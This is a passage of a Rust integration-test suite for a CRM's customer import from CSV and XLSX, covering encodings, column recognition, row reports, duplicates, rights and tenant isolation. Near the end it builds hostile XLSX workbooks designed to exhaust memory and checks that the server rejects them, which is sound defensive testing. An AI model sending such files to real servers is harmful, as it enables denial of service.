//! Customer imports from CSV (UTF-8 and GBK) and XLSX: preview, column
//! recognition, the per-row report, duplicate policies, "all or nothing",
//! owners, rights, broken files, and other companies' ids.

use std::io::Write;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};

use guanxi_tests::{Backend, Company, Gql, Session, TestServer, backend_tests, company};
use serde_json::{Value, json};

const IMPORT: &str = "id fileName format status rowsTotal rowsDone created updated skipped failed \
                      job { status progressDone progressTotal error }";

fn gbk(text: &str) -> Vec<u8> {
    let (bytes, _, unmappable) = encoding_rs::GBK.encode(text);
    assert!(!unmappable);
    bytes.into_owned()
}

fn xlsx(rows: &[&[&str]]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let (r, c) = (u32::try_from(r).unwrap(), u16::try_from(c).unwrap());
            // Phone numbers as Excel numbers, as spreadsheets often hold them.
            match cell.parse::<f64>() {
                Ok(n) if cell.len() == 11 => sheet.write_number(r, c, n).map(|_| ()),
                _ => sheet.write_string(r, c, *cell).map(|_| ()),
            }
            .unwrap();
        }
    }
    book.save_to_buffer().unwrap()
}

async fn start(s: &TestServer, who: &Session, name: &str, bytes: Vec<u8>, input: Value) -> Gql {
    s.gql_upload(
        Some(&who.token),
        &format!(
            "mutation($file: Upload!, $i: ImportCustomersInput) {{ importCustomers(file: $file, input: $i) {{ {IMPORT} }} }}"
        ),
        json!({ "file": null, "i": input }),
        vec![("variables.file", name, bytes)],
    )
    .await
}

/// Wait for an import to end; returns it with its report.
async fn finished(s: &TestServer, who: &Session, id: &str) -> Value {
    for _ in 0..600 {
        let r = s
            .gql(
                Some(&who.token),
                &format!(
                    "query($id: ID!) {{ customerImport(id: $id) {{ {IMPORT} issues(limit: 500) {{ total items {{ row column code message severity }} }} }} }}"
                ),
                json!({ "id": id }),
            )
            .await;
        let imp = r.ok()["customerImport"].clone();
        let job = imp["job"]["status"].as_str().unwrap();
        assert_ne!(job, "FAILED", "import job failed: {imp}");
        if matches!(imp["status"].as_str(), Some("DONE" | "REJECTED")) && job == "SUCCEEDED" {
            return imp;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("import {id} did not finish");
}

async fn run(s: &TestServer, who: &Session, name: &str, bytes: Vec<u8>, input: Value) -> Value {
    let r = start(s, who, name, bytes, input).await;
    let id = r.ok()["importCustomers"]["id"].as_str().unwrap().to_owned();
    finished(s, who, &id).await
}

async fn customers(s: &TestServer, who: &Session, search: &str) -> Vec<Value> {
    let r = s
        .gql(
            Some(&who.token),
            "query($f: CustomerFilter) { customers(filter: $f, first: 100) { edges { node { id number name company phones email gender status tags birthday owner { id } } } } }",
            json!({ "f": { "search": search } }),
        )
        .await;
    r.ok()["customers"]["edges"].as_array().unwrap().iter().map(|e| e["node"].clone()).collect()
}

async fn total(s: &TestServer, who: &Session) -> i64 {
    let r = s.gql(Some(&who.token), "{ customers { totalCount } }", json!({})).await;
    r.ok()["customers"]["totalCount"].as_i64().unwrap()
}

fn issue(imp: &Value, row: i64) -> Vec<&Value> {
    imp["issues"]["items"].as_array().unwrap().iter().filter(|i| i["row"] == row).collect()
}

async fn gbk_csv_with_chinese_headers_and_a_row_report(b: Backend) {
    let Company { s, sp1, .. } = company(b).await;
    // An existing customer the file duplicates by phone.
    s.gql(
        Some(&sp1.token),
        "mutation { createCustomer(input: { name: \"老客户\", phones: [\"13900000001\"] }) { id } }",
        json!({}),
    )
    .await
    .ok();
    let csv = gbk("客户名称,手机,邮箱,公司,性别,客户状态,标签,生日\r\n\
         张伟,138 1234 5678,zw@example.cn,上海关系贸易,男,意向客户,重点、展会,1985-03-02\r\n\
         李娜,not-a-phone,,,女,准客户,,\r\n\
         ,13800000002,,,,,,\r\n\
         王芳,13800000003,,,女,大客户,,\r\n\
         老客户二,+86 139-0000-0001,,,,,,\r\n\
         张伟同事,13812345678,,,,,,\r\n\
         刘洋,13800000004;13800000005,LY@Example.cn,,先生,签约,,2024年1月5日\r\n");

    // Preview: the encoding and the recognised columns.
    let r = s
        .gql_upload(
            Some(&sp1.token),
            "mutation($file: Upload!) { previewCustomerImport(file: $file) { format encoding rows columns { header field fieldLabel } sample } }",
            json!({ "file": null }),
            vec![("variables.file", "客户.csv", csv.clone())],
        )
        .await;
    let p = &r.ok()["previewCustomerImport"];
    assert_eq!(p["format"], "CSV");
    assert_eq!(p["encoding"], "GB18030");
    assert_eq!(p["rows"], 7);
    let fields: Vec<&str> = p["columns"].as_array().unwrap().iter().map(|c| c["field"].as_str().unwrap()).collect();
    assert_eq!(fields, ["name", "phones", "email", "company", "gender", "status", "tags", "birthday"]);
    assert_eq!(p["sample"][0][0], "张伟");

    let imp = run(&s, &sp1, "客户.csv", csv, json!(null)).await;
    assert_eq!(imp["status"], "DONE");
    assert_eq!(imp["format"], "CSV");
    assert_eq!(imp["rowsTotal"], 7);
    assert_eq!(imp["rowsDone"], 7);
    assert_eq!((imp["created"].as_i64(), imp["skipped"].as_i64(), imp["failed"].as_i64()), (Some(2), Some(2), Some(3)));
    assert_eq!(imp["job"]["progressDone"], 7);
    // Row 3: the phone; row 4: no name; row 5: an unknown status — each
    // named by its row and column.
    let r3 = issue(&imp, 3);
    assert_eq!(
        (r3[0]["column"].as_str(), r3[0]["code"].as_str(), r3[0]["severity"].as_str()),
        (Some("手机"), Some("invalid"), Some("ERROR"))
    );
    assert_eq!(issue(&imp, 4)[0]["code"], "required");
    assert_eq!(issue(&imp, 4)[0]["column"], "客户名称");
    let r5 = issue(&imp, 5);
    assert_eq!((r5[0]["column"].as_str(), r5[0]["code"].as_str()), (Some("客户状态"), Some("invalid")));
    assert!(r5[0]["message"].as_str().unwrap().contains("大客户"));
    // Row 6 duplicates the existing customer, row 7 an earlier row: skipped.
    assert_eq!(issue(&imp, 6)[0]["severity"], "SKIPPED");
    assert!(issue(&imp, 7)[0]["message"].as_str().unwrap().contains("row 2"));

    let zw = customers(&s, &sp1, "张伟").await;
    assert_eq!(zw.len(), 1);
    let zw = &zw[0];
    assert_eq!(zw["phones"], json!(["13812345678"]));
    assert_eq!(zw["gender"], "MALE");
    assert_eq!(zw["status"], "INTENT");
    assert_eq!(zw["tags"], json!(["重点", "展会"]));
    assert_eq!(zw["birthday"], "1985-03-02");
    assert_eq!(zw["owner"]["id"], sp1.user_id.as_str());
    assert!(zw["number"].as_str().unwrap().starts_with("KH"));
    let ly = &customers(&s, &sp1, "刘洋").await[0];
    assert_eq!(ly["phones"], json!(["13800000004", "13800000005"]));
    assert_eq!(ly["email"], "ly@example.cn");
    assert_eq!(ly["status"], "DEAL");
    assert!(customers(&s, &sp1, "王芳").await.is_empty());
    assert!(customers(&s, &sp1, "李娜").await.is_empty());
    // Numbers stay unique after a block was drawn for the import.
    let r =
        s.gql(Some(&sp1.token), "mutation { createCustomer(input: { name: \"之后\" }) { number } }", json!({})).await;
    let after = r.ok()["createCustomer"]["number"].as_str().unwrap().to_owned();
    assert_ne!(after, zw["number"].as_str().unwrap());
}

async fn xlsx_all_or_nothing_then_update_duplicates(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let r = s
        .gql(
            Some(&sp1.token),
            "mutation { createCustomer(input: { name: \"陈静\", phones: [\"13700000001\"], tags: [\"老客户\"] }) { id } }",
            json!({}),
        )
        .await;
    let existing = r.ok()["createCustomer"]["id"].as_str().unwrap().to_owned();
    let before = total(&s, &admin).await;

    // One bad row rejects the whole file.
    let bad = xlsx(&[
        &["姓名", "电话", "职务", "标签"],
        &["陈静", "13700000001", "采购经理", "复购"],
        &["赵磊", "13700000002", "", ""],
        &["孙丽", "not a phone", "", ""],
    ]);
    let imp = run(&s, &sp1, "客户.xlsx", bad, json!({ "mode": "ALL_OR_NOTHING", "onDuplicate": "UPDATE" })).await;
    assert_eq!(imp["status"], "REJECTED");
    assert_eq!(imp["format"], "XLSX");
    assert_eq!((imp["created"].as_i64(), imp["updated"].as_i64(), imp["failed"].as_i64()), (Some(0), Some(0), Some(1)));
    assert_eq!(issue(&imp, 4)[0]["column"], "电话");
    assert_eq!(total(&s, &admin).await, before);

    // Fixed: the duplicate is filled in (phones and tags added), the new row created.
    let good = xlsx(&[
        &["姓名", "电话", "职务", "标签"],
        &["陈静", "13700000001", "采购经理", "复购"],
        &["赵磊", "13700000002", "", ""],
    ]);
    let imp = run(&s, &sp1, "客户.xlsx", good, json!({ "mode": "ALL_OR_NOTHING", "onDuplicate": "UPDATE" })).await;
    assert_eq!(imp["status"], "DONE");
    assert_eq!((imp["created"].as_i64(), imp["updated"].as_i64()), (Some(1), Some(1)));
    let r = s
        .gql(
            Some(&sp1.token),
            "query($id: ID!) { customer(id: $id) { title tags history { field newValue } } }",
            json!({ "id": existing }),
        )
        .await;
    let c = &r.ok()["customer"];
    assert_eq!(c["title"], "采购经理");
    assert_eq!(c["tags"], json!(["老客户", "复购"]));
    assert!(c["history"].as_array().unwrap().iter().any(|h| h["field"] == "title"));
    // Excel stored the phone as a number; it reads back as the mobile.
    assert_eq!(customers(&s, &sp1, "赵磊").await[0]["phones"], json!(["13700000002"]));

    // CREATE makes another customer despite the duplicate.
    let again = xlsx(&[&["姓名", "电话"], &["陈静", "13700000001"]]);
    let imp = run(&s, &sp1, "again.xlsx", again, json!({ "onDuplicate": "CREATE", "dedup": ["PHONE"] })).await;
    assert_eq!(imp["created"], 1);
    assert_eq!(customers(&s, &sp1, "陈静").await.len(), 2);
}

async fn ten_thousand_bad_rows_are_reported_and_write_nothing(b: Backend) {
    let Company { s, admin, .. } = company(b).await;
    let mut csv = String::from("姓名,电话\n");
    for i in 0..10_000 {
        csv.push_str(&format!("客户{i},bad-{i}\n"));
    }
    csv.push_str("好客户,13600000001\n");
    let before = total(&s, &admin).await;
    let imp = run(&s, &admin, "bad.csv", csv.clone().into_bytes(), json!({ "mode": "ALL_OR_NOTHING" })).await;
    assert_eq!(imp["status"], "REJECTED");
    assert_eq!(imp["failed"], 10_000);
    assert_eq!(imp["issues"]["total"], 10_000);
    assert_eq!(total(&s, &admin).await, before);

    let imp = run(&s, &admin, "bad.csv", csv.into_bytes(), json!(null)).await;
    assert_eq!(imp["status"], "DONE");
    assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(1), Some(10_000)));
    assert_eq!(imp["issues"]["total"], 10_000);
    assert_eq!(imp["issues"]["items"][0]["row"], 2);
    assert_eq!(total(&s, &admin).await, before + 1);
    // The report pages.
    let id = imp["id"].as_str().unwrap();
    let r = s
        .gql(
            Some(&admin.token),
            "query($id: ID!) { customerImport(id: $id) { issues(offset: 9999, limit: 10) { total items { row } } } }",
            json!({ "id": id }),
        )
        .await;
    assert_eq!(r.ok()["customerImport"]["issues"]["items"], json!([{ "row": 10_001 }]));
}

async fn broken_files_and_bad_options_queue_nothing(b: Backend) {
    let Company { s, admin, sp1, sp2, maint, .. } = company(b).await;
    let jobs = |who: &Session| {
        let t = who.token.clone();
        let s = &s;
        async move { s.gql(Some(&t), "{ jobs { id } }", json!({})).await.ok()["jobs"].as_array().unwrap().len() }
    };
    let before = jobs(&admin).await;
    let csv = "姓名,电话\n张三,13812345678\n".as_bytes().to_vec();
    type Case<'a> = (&'a Session, &'a str, Vec<u8>, Value, &'a str, &'a str);
    let cases: Vec<Case> = vec![
        (&sp1, "x.xlsx", b"PK\x03\x04 not really a workbook".to_vec(), json!(null), "VALIDATION_FAILED", "file"),
        (&sp1, "e.csv", Vec::new(), json!(null), "VALIDATION_FAILED", "file"),
        (&sp1, "h.csv", b"name\n".to_vec(), json!(null), "VALIDATION_FAILED", "file"),
        (&sp1, "n.csv", "电话\n13812345678\n".as_bytes().to_vec(), json!(null), "VALIDATION_FAILED", "mapping"),
        (
            &sp1,
            "m.csv",
            csv.clone(),
            json!({ "mapping": [{ "column": "姓名", "field": "salary" }] }),
            "VALIDATION_FAILED",
            "mapping.0.field",
        ),
        (
            &sp1,
            "m.csv",
            csv.clone(),
            json!({ "mapping": [{ "column": "名字", "field": "name" }] }),
            "VALIDATION_FAILED",
            "mapping.0.column",
        ),
        (&sp1, "o.csv", csv.clone(), json!({ "ownerId": sp2.user_id }), "FORBIDDEN", ""),
        (&sp1, "o.csv", csv.clone(), json!({ "toPool": true }), "FORBIDDEN", ""),
        (&maint, "o.csv", csv.clone(), json!(null), "FORBIDDEN", ""),
    ];
    for (who, name, bytes, input, code, field) in cases {
        let r = start(&s, who, name, bytes, input.clone()).await;
        assert_eq!(r.code(), code, "{name} {input}: {:?}", r.error());
        if !field.is_empty() {
            assert_eq!(r.fields(), vec![field.to_owned()], "{name} {input}");
        }
    }
    assert_eq!(jobs(&admin).await, before);
    assert!(customers(&s, &admin, "张三").await.is_empty());
}

async fn owners_visibility_and_other_companies(b: Backend) {
    let Company { s, admin, sup, sp1, sp2, .. } = company(b).await;
    // sp2's customer: sp1's file duplicates it but may not see it.
    s.gql(
        Some(&sp2.token),
        "mutation { createCustomer(input: { name: \"周杰\", email: \"zj@example.cn\" }) { id } }",
        json!({}),
    )
    .await
    .ok();
    let imp = run(
        &s,
        &sp1,
        "mine.csv",
        "姓名,邮箱\n周杰,ZJ@example.cn\n".as_bytes().to_vec(),
        json!({ "onDuplicate": "UPDATE" }),
    )
    .await;
    assert_eq!(imp["skipped"], 1);
    let msg = issue(&imp, 2)[0]["message"].as_str().unwrap().to_owned();
    assert!(msg.contains("outside your view"), "{msg}");
    assert!(!msg.contains("sp2"));

    // The admin assigns by the owner column (e-mail or name) and to the pool.
    let file = "姓名,负责人\n吴一,sp1@acme.cn\n吴二,SP2@acme.cn\n吴三,\n吴四,nobody@acme.cn\n";
    let imp = run(&s, &admin, "owners.csv", file.as_bytes().to_vec(), json!({ "toPool": true })).await;
    assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(3), Some(1)));
    assert_eq!(issue(&imp, 5)[0]["column"], "负责人");
    let owner = |name: &'static str| {
        let s = &s;
        let admin = &admin;
        async move { customers(s, admin, name).await[0]["owner"]["id"].clone() }
    };
    assert_eq!(owner("吴一").await, json!(sp1.user_id));
    assert_eq!(owner("吴二").await, json!(sp2.user_id));
    // A pool customer is in the pool view, not among the owned customers.
    assert!(customers(&s, &admin, "吴三").await.is_empty());
    let r = s
        .gql(Some(&admin.token), "{ pool(filter: {search: \"吴三\"}) { edges { node { owner { id } } } } }", json!({}))
        .await;
    assert_eq!(r.ok()["pool"]["edges"][0]["node"]["owner"], Value::Null);

    // A supervisor may give customers only within the groups they supervise.
    let file = "姓名,负责人\n郑一,sp1@acme.cn\n郑二,sp2@acme.cn\n";
    let imp = run(&s, &sup, "team.csv", file.as_bytes().to_vec(), json!(null)).await;
    assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(1), Some(1)));
    assert_eq!(issue(&imp, 3)[0]["code"], "forbidden");

    // Imports are seen by their creator and admins only.
    let id = imp["id"].as_str().unwrap().to_owned();
    let q = "query($id: ID!) { customerImport(id: $id) { id } }";
    assert_eq!(s.gql(Some(&sp1.token), q, json!({ "id": id })).await.code(), "NOT_FOUND");
    s.gql(Some(&admin.token), q, json!({ "id": id })).await.ok();
    let r = s.gql(Some(&sp1.token), "{ customerImports { id } }", json!({})).await;
    assert_eq!(r.ok()["customerImports"].as_array().unwrap().len(), 1);
    let r = s.gql(Some(&admin.token), "{ customerImports { id } }", json!({})).await;
    assert_eq!(r.ok()["customerImports"].as_array().unwrap().len(), 3);

    // Another company sees none of it, and its imports find no duplicates here.
    let other = s.sign_up("other").await;
    assert_eq!(s.gql(Some(&other.token), q, json!({ "id": id })).await.code(), "NOT_FOUND");
    let imp = run(&s, &other, "o.csv", "姓名,邮箱\n周杰,zj@example.cn\n".as_bytes().to_vec(), json!(null)).await;
    assert_eq!((imp["created"].as_i64(), imp["skipped"].as_i64()), (Some(1), Some(0)));
    assert_eq!(customers(&s, &other, "").await.len(), 1);
}

async fn custom_field_columns(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let define = "mutation($i: CustomFieldInput!) { createCustomField(entity: CUSTOMER, input: $i) { id } }";
    for input in [
        json!({ "key": "level", "label": "客户级别", "type": "SINGLE_SELECT", "required": true, "default": "b",
                "rules": { "options": [{ "key": "a", "label": "重要" }, { "key": "b", "label": "一般" }] } }),
        json!({ "key": "employees", "label": "员工数", "labelEn": "Employees", "type": "NUMBER", "rules": { "min": 1 } }),
        json!({ "key": "license", "label": "营业执照号", "type": "TEXT", "unique": true }),
        json!({ "key": "follow_up", "label": "跟进人", "type": "USER" }),
    ] {
        s.gql(Some(&admin.token), define, json!({ "i": input })).await.ok();
    }
    let csv = "姓名,客户级别,Employees,营业执照号,跟进人\n\
               甲,重要,120,L1,王总\n\
               乙,,0,L2,\n\
               丙,一般,3,L1,\n\
               丁,未知,,L4,nobody@example.com\n\
               戊,,,L5,\n\
               己,,,L6,新同事\n"
        .as_bytes()
        .to_vec();
    // The preview recognises custom fields by label and English label.
    let r = s
        .gql_upload(
            Some(&sp1.token),
            "mutation($file: Upload!) { previewCustomerImport(file: $file) { columns { field fieldLabel } fields { name } } }",
            json!({ "file": null }),
            vec![("variables.file", "c.csv", csv.clone())],
        )
        .await;
    let p = &r.ok()["previewCustomerImport"];
    let fields: Vec<&str> = p["columns"].as_array().unwrap().iter().map(|c| c["field"].as_str().unwrap()).collect();
    assert_eq!(fields, ["name", "custom.level", "custom.employees", "custom.license", "custom.follow_up"]);
    assert_eq!(p["columns"][1]["fieldLabel"], "客户级别");
    assert!(p["fields"].as_array().unwrap().iter().any(|f| f["name"] == "custom.license"));

    // "All or nothing" finds the bad rows, the unique value used twice in
    // the file included, and imports nothing.
    let imp = run(&s, &sp1, "c.csv", csv.clone(), json!({ "mode": "ALL_OR_NOTHING" })).await;
    assert_eq!(imp["status"], "REJECTED");
    assert_eq!(total(&s, &sp1).await, 0);
    assert_eq!(issue(&imp, 4)[0]["column"], "营业执照号");

    // Valid rows only: each problem under its column.
    let imp = run(&s, &sp1, "c.csv", csv, json!(null)).await;
    assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(2), Some(4)));
    assert_eq!(
        (issue(&imp, 3)[0]["column"].as_str(), issue(&imp, 3)[0]["code"].as_str()),
        (Some("Employees"), Some("too_small"))
    );
    assert_eq!(
        (issue(&imp, 4)[0]["column"].as_str(), issue(&imp, 4)[0]["code"].as_str()),
        (Some("营业执照号"), Some("taken"))
    );
    // Cells that do not even read (an unknown colleague) are reported
    // before the values are checked.
    let r5: Vec<&str> = issue(&imp, 5).iter().map(|i| i["column"].as_str().unwrap()).collect();
    assert_eq!(r5, ["跟进人"]);
    // Several colleagues share the display name 新同事: refused, not guessed.
    assert_eq!(issue(&imp, 7)[0]["code"], "ambiguous");
    let r = s
        .gql(
            Some(&sp1.token),
            "{ customers(sort: { field: NAME, direction: ASC }) { edges { node { name custom } } } }",
            json!({}),
        )
        .await;
    let got: Vec<(String, Value)> = r.ok()["customers"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["node"]["name"].as_str().unwrap().to_owned(), e["node"]["custom"].clone()))
        .collect();
    assert_eq!(got.len(), 2);
    let jia = &got.iter().find(|(n, _)| n == "甲").unwrap().1;
    assert_eq!(jia, &json!({ "level": "a", "employees": 120, "license": "L1", "follow_up": admin.user_id }));
    // An empty required cell takes the field's default.
    assert_eq!(got.iter().find(|(n, _)| n == "戊").unwrap().1, json!({ "level": "b", "license": "L5" }));
}

async fn large_files_are_accepted(b: Backend) {
    let Company { s, sp1, .. } = company(b).await;
    // Well beyond the 2 MB that HTTP body extractors default to.
    let mut csv = String::from("姓名,手机,备注\n");
    let filler = "很长的备注".repeat(20);
    for i in 0..30_000 {
        csv.push_str(&format!("客户{i},1{},{filler}\n", 3_700_000_000u64 + i));
    }
    assert!(csv.len() > 3 * 1024 * 1024);
    let r = s
        .gql_upload(
            Some(&sp1.token),
            "mutation($file: Upload!) { previewCustomerImport(file: $file) { rows } }",
            json!({ "file": null }),
            vec![("variables.file", "big.csv", csv.into_bytes())],
        )
        .await;
    assert_eq!(r.ok()["previewCustomerImport"]["rows"], 30_000);
}

/// A file of several batches, which PostgreSQL writes side by side: rows
/// that update customers created earlier in the same batch or in a batch
/// still being written find them, every row is counted once, and numbers
/// stay unique.
async fn batches_write_side_by_side_in_order(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let before = total(&s, &admin).await;
    let phone = |i: usize| format!("1370{i:07}");
    // Rows that repeat an earlier row's phone: the same batch (row 2 of
    // row 1), the batch before (2,500 of 10; 4,100 of 2,200).
    let repeats = [(2, 1), (2500, 10), (4100, 2200)];
    let mut csv = String::from("姓名,手机,标签\n");
    for i in 1..=5000 {
        match repeats.iter().find(|(row, _)| *row == i) {
            Some((_, of)) => csv.push_str(&format!("复购{i},{},复购\n", phone(*of))),
            None => csv.push_str(&format!("批量{i},{},展会\n", phone(i))),
        }
    }
    let imp =
        run(&s, &sp1, "batches.csv", csv.into_bytes(), json!({ "onDuplicate": "UPDATE", "dedup": ["PHONE"] })).await;
    assert_eq!(imp["status"], "DONE", "{imp}");
    assert_eq!(
        (imp["created"].as_i64(), imp["updated"].as_i64(), imp["failed"].as_i64()),
        (Some(4997), Some(3), Some(0))
    );
    assert_eq!(imp["rowsDone"], 5000);
    assert_eq!(total(&s, &admin).await, before + 4997);
    for (_, of) in repeats {
        let found = customers(&s, &admin, &phone(of)).await;
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0]["tags"], json!(["展会", "复购"]), "row {of}");
    }
    let tenant = uuid::Uuid::parse_str(&admin.tenant_id).unwrap();
    let distinct = crate::pool::raw_count(
        &s,
        "SELECT COUNT(DISTINCT number) AS n FROM customers WHERE tenant_id = $1",
        vec![tenant.into()],
    )
    .await;
    assert_eq!(distinct, before + 4997, "every customer has its own number");
    // The lanes counted their batches in the dashboards' cohorts: the
    // funnel (from them) counts every customer.
    let r = s.gql(Some(&admin.token), "{ analytics { funnel { customers } } }", json!({})).await;
    let counted: i64 =
        r.ok()["analytics"]["funnel"].as_array().unwrap().iter().map(|f| f["customers"].as_i64().unwrap()).sum();
    assert_eq!(counted, before + 4997);

    // The salesperson imported them as their own.
    assert_eq!(customers(&s, &sp1, &phone(4000)).await[0]["owner"]["id"], sp1.user_id);

    // Another company sees neither the import nor its customers.
    let other = s.sign_up("rival").await;
    assert!(customers(&s, &other, &phone(10)).await.is_empty());
    let r = s
        .gql(Some(&other.token), "query($id: ID!) { customerImport(id: $id) { id } }", json!({ "id": imp["id"] }))
        .await;
    assert_eq!(r.code(), "NOT_FOUND");
}

/// A workbook written by hand, as a hostile file would be: `shared` writes
/// the shared strings and `rows` the rows of its one sheet, in pieces, so
/// the test never holds what the file unpacks to.
fn hand_workbook(shared: &mut dyn FnMut(&mut dyn Write), rows: &mut dyn FnMut(&mut dyn Write)) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1));
    zip.start_file("xl/workbook.xml", opts).unwrap();
    zip.write_all(br#"<workbook xmlns:r="r"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#)
        .unwrap();
    zip.start_file("xl/_rels/workbook.xml.rels", opts).unwrap();
    zip.write_all(
        br#"<Relationships><Relationship Id="rId1" Type="w" Target="worksheets/sheet1.xml"/></Relationships>"#,
    )
    .unwrap();
    zip.start_file("xl/sharedStrings.xml", opts).unwrap();
    zip.write_all(b"<sst>").unwrap();
    shared(&mut zip);
    zip.write_all(b"</sst>").unwrap();
    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
    zip.write_all(b"<worksheet><sheetData>").unwrap();
    rows(&mut zip);
    zip.write_all(b"</sheetData></worksheet>").unwrap();
    zip.finish().unwrap().into_inner()
}

/// A header row of one inline string, 姓名.
const HEADER_ROW: &[u8] = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>"#.as_bytes();

/// Hostile workbooks, each with the reason it is refused; built once.
fn hostile_workbooks() -> &'static [(&'static str, Vec<u8>, &'static str)] {
    static FILES: OnceLock<Vec<(&'static str, Vec<u8>, &'static str)>> = OnceLock::new();
    FILES.get_or_init(|| {
        // One cell at A1 and one at XFD1048576: a grid of 17 billion cells.
        let far = hand_workbook(&mut |_| {}, &mut |w| {
            w.write_all(HEADER_ROW).unwrap();
            w.write_all(br#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#).unwrap();
        });
        assert!(far.len() < 1500, "{}", far.len());
        // One cell of 1 GiB.
        let chunk = "A".repeat(1 << 20);
        let cell = hand_workbook(&mut |_| {}, &mut |w| {
            w.write_all(HEADER_ROW).unwrap();
            w.write_all(br#"<row r="2"><c r="A2" t="inlineStr"><is><t>"#).unwrap();
            for _ in 0..1024 {
                w.write_all(chunk.as_bytes()).unwrap();
            }
            w.write_all(b"</t></is></c></row>").unwrap();
        });
        // A million rows.
        let rows = hand_workbook(&mut |w| w.write_all(b"<si><t>x</t></si>").unwrap(), &mut |w| {
            w.write_all(HEADER_ROW).unwrap();
            for r in 2..1_000_000 {
                write!(w, r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>"#).unwrap();
            }
        });
        // One long shared string in every cell of 4,000 rows.
        let long = "长".repeat(32_767);
        let shared = hand_workbook(&mut |w| write!(w, "<si><t>{long}</t></si>").unwrap(), &mut |w| {
            w.write_all(HEADER_ROW).unwrap();
            for r in 2..4000 {
                write!(w, r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c><c r="B{r}" t="s"><v>0</v></c></row>"#)
                    .unwrap();
            }
        });
        vec![
            ("far.xlsx", far, "too_many_columns"),
            ("cell.xlsx", cell, "cell_too_long"),
            ("rows.xlsx", rows, "too_many_rows"),
            ("shared.xlsx", shared, "too_large"),
        ]
    })
}

async fn preview(s: &TestServer, who: &Session, name: &str, bytes: Vec<u8>) -> Gql {
    s.gql_upload(
        Some(&who.token),
        "mutation($file: Upload!) { previewCustomerImport(file: $file) { rows columns { header field } warnings { column code message } } }",
        json!({ "file": null }),
        vec![("variables.file", name, bytes)],
    )
    .await
}

/// The process's resident memory, in bytes.
fn resident() -> u64 {
    let statm = std::fs::read_to_string("/proc/self/statm").unwrap();
    statm.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 4096
}

/// Hostile workbooks sent by a salesperson, to the preview and to the
/// import: each is refused on `file`, naming the limit, promptly and
/// without the memory it would unpack to; nothing is queued and the
/// server goes on answering.
async fn hostile_workbooks_are_refused_while_streaming(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let files = hostile_workbooks();
    for (name, bytes, reason) in files {
        let before = resident();
        let peak = Arc::new(AtomicU64::new(before));
        let done = Arc::new(AtomicBool::new(false));
        let sampler = {
            let (peak, done) = (peak.clone(), done.clone());
            std::thread::spawn(move || {
                while !done.load(Ordering::SeqCst) {
                    peak.fetch_max(resident(), Ordering::SeqCst);
                    std::thread::sleep(Duration::from_millis(2));
                }
            })
        };
        let started = Instant::now();
        let r = preview(&s, &sp1, name, bytes.clone()).await;
        let took = started.elapsed();
        let i = start(&s, &sp1, name, bytes.clone(), json!(null)).await;
        done.store(true, Ordering::SeqCst);
        sampler.join().unwrap();
        for r in [&r, &i] {
            assert_eq!(r.code(), "VALIDATION_FAILED", "{name}: {:?}", r.error());
            assert_eq!(r.fields(), ["file"], "{name}");
            assert_eq!(r.error()["extensions"]["fields"][0]["reason"], *reason, "{name}");
        }
        assert!(took < Duration::from_secs(30), "{name} took {took:?}");
        let grew = peak.load(Ordering::SeqCst).saturating_sub(before);
        // Generous: other tests run in the same process meanwhile.
        assert!(grew < 512 << 20, "{name}: memory grew by {} MiB", grew >> 20);
    }
    let r = s.gql(Some(&sp1.token), "{ me { user { id } } }", json!({})).await;
    assert_eq!(r.ok()["me"]["user"]["id"], sp1.user_id.as_str());
    let r = s.gql(Some(&admin.token), "{ customerImports { id } jobs { id } }", json!({})).await;
    assert_eq!(r.ok()["customerImports"], json!([]));
    assert_eq!(total(&s, &admin).await, 0);
}

/// While a large workbook is being read, another company's requests are
/// answered at once: reading holds no database connection (SQLite has
/// only one).
async fn reading_a_workbook_holds_no_connection(b: Backend) {
    let Company { s, sp1, .. } = company(b).await;
    let other = s.sign_up("other").await;
    s.gql(Some(&other.token), "mutation { createCustomer(input: { name: \"别家\" }) { id } }", json!({})).await.ok();
    let rows = hostile_workbooks().iter().find(|f| f.0 == "rows.xlsx").unwrap().1.clone();
    let s = Arc::new(s);
    let reading = {
        let (s, sp1) = (s.clone(), sp1.clone());
        tokio::spawn(async move { preview(&s, &sp1, "rows.xlsx", rows).await })
    };
    tokio::time::sleep(Duration::from_millis(100)).await;
    let mut answered_meanwhile = 0;
    while !reading.is_finished() {
        let started = Instant::now();
        let r = s.gql(Some(&other.token), "{ customers { totalCount } }", json!({})).await;
        assert_eq!(r.ok()["customers"]["totalCount"], 1);
        assert!(started.elapsed() < Duration::from_secs(1), "another company waited {:?}", started.elapsed());
        if !reading.is_finished() {
            answered_meanwhile += 1;
        }
    }
    assert_eq!(reading.await.unwrap().code(), "VALIDATION_FAILED");
    assert!(answered_meanwhile > 0, "the workbook was read before anyone asked");
}

/// The requirement documents' own names for customer fields (客户名称,
/// 所属公司 …) and the product's own export headers fill their fields;
/// every column that fills nothing is named, in the preview and in the
/// import's report, never dropped in silence.
async fn requirement_document_headers_fill_their_fields(b: Backend) {
    let Company { s, sp1, .. } = company(b).await;
